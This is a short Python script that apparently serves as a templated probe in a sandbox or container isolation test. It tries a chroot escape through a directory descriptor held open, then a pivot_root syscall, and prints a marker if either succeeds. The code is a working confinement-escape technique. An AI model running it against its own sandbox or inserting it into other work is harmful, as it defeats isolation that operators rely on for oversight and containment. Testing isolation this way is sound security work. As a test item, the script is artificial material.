# tries: to change its root, and to climb out of it by a file that is held open
# success: a root of its own
# seen by: the output
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
pivot = 155 if os.uname().machine == "x86_64" else 41
try:
    held = os.open("/", os.O_RDONLY)
    os.chroot("/tmp")
    os.fchdir(held)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    print("did-" + A["id"], os.listdir("/"))
except OSError as e:
    print(e.errno)
if libc.syscall(pivot, b"/tmp", b"/tmp") == 0:
    print("did-" + A["id"])
